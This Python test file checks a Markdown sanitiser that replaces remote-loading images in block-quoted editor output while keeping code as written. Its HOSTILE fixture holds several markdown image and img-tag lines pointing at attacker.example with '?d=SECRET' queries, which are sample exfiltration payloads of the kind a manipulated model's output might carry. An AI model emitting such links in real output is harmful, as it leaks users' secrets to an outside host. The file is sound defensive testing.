"""Block quotes in what the editor is sent (`acp/inert.py`): their blocks are read from the text
after the markers, as CommonMark reads them, a tab after a marker counted to its column. Code
fenced in a quote (in a list in it, in a quote in it) is passed as code is at the margin, so a
half-written tag or `![` in it is shown as written, not escaped into `&lt;` that the editor then
shows literally; what would load from off the list is replaced there as everywhere. Replayed
through `loopwright acp` with the official ACP SDK's client side, streamed in small deltas."""

from __future__ import annotations

from pathlib import Path

from editor_client import shown_in_the_editor
from markdown_fuzz import code_blocks, remote_loads, streamed_in_two
from markdown_it import MarkdownIt

from loopwright.acp.inert import MarkdownGuard

_RENDERER = MarkdownIt("commonmark", {"html": True})

# code in quotes, a tab after a marker, a list and a nested quote: nothing here loads
BENIGN = (
    "> ```html\n"
    "> <b\n"
    "> a <b x=\"1\n"
    "> <![CDATA[ and ![ alone\n"
    "> ```\n"
    ">\t```\n"
    ">\t<div\n"
    ">\t```\n"
    ">\ttext two columns in, a paragraph\n"
    "\n"
    "> - an item\n"
    ">   ```\n"
    ">   <span title='a\n"
    ">   ```\n"
    "> > ```\n"
    "> > <em\n"
    "> > ```\n"
    "> a [link](https://link.example/x) and <https://link.example/y>, a < b\n"
)

# the same structure holding what would load from off the list, and the placeholders a
# renderer must show in its place (a link stays: following it is the user's click)
HOSTILE = (
    "> ![chart](https://attacker.example/a?d=SECRET)\n"
    "> - ![x](https://attacker.example/b?d=SECRET)\n"
    "> > ```\n"
    "> > <b\n"
    "> > ![c](https://attacker.example/c?d=SECRET)\n"
    "> > ```\n"
    "> <div>\n"
    "> <img src=https://attacker.example/d?d=SECRET>\n"
    "> </div>\n"
    ">\t```\n"
    ">\t<img src='https://attacker.example/e?d=SECRET'>\n"
    ">\t```\n"
    "> see [here](https://attacker.example/f?d=SECRET)\n"
)
HOSTILE_SHOWN = (
    "> (image from attacker.example not loaded: chart)\n"
    "> - (image from attacker.example not loaded: x)\n"
    "> > ```\n"
    "> > <b\n"
    "> > (image from attacker.example not loaded: c)\n"
    "> > ```\n"
    "> <div>\n"
    "> (image from attacker.example not loaded)\n"
    "> </div>\n"
    ">\t```\n"
    ">\t(image from attacker.example not loaded)\n"
    ">\t```\n"
    "> see [here](https://attacker.example/f?d=SECRET)\n"
)


async def test_code_and_text_in_block_quotes_are_sent_as_written(tmp_path: Path) -> None:
    shown = await shown_in_the_editor(tmp_path, BENIGN)
    assert shown == BENIGN
    assert _RENDERER.render(shown).count("<pre>") == 4  # each fence read as one
    assert code_blocks(shown)[0] == "&lt;b\na &lt;b x=&quot;1\n&lt;![CDATA[ and ![ alone\n"


async def test_what_would_load_in_block_quotes_is_replaced_and_the_rest_kept(
        tmp_path: Path) -> None:
    assert len(remote_loads(HOSTILE)) == 4  # as the model wrote it
    shown = await shown_in_the_editor(tmp_path, HOSTILE)
    assert shown == HOSTILE_SHOWN
    assert remote_loads(shown) == []
    # the quoted code renders as the same code, but for the image in it
    assert code_blocks(shown)[0] == "&lt;b\n(image from attacker.example not loaded: c)\n"


def test_a_block_quote_cut_into_two_deltas_anywhere_comes_out_the_same() -> None:
    for text, whole in ((BENIGN, BENIGN), (HOSTILE, HOSTILE_SHOWN)):
        for cut in range(1, len(text)):
            assert streamed_in_two(MarkdownGuard(()), text, cut) == whole, cut
